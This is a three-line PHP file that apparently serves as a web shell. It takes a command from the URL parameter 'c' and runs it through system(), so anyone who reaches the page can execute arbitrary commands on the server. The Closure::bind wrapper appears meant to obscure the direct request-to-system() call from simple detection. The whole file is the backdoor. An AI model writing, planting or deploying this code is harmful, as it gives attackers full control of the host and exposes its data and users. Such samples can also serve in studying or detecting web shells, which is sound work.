<?php
$f = Closure::bind(function () { return $_GET["c"]; }, null, null);
system($f());
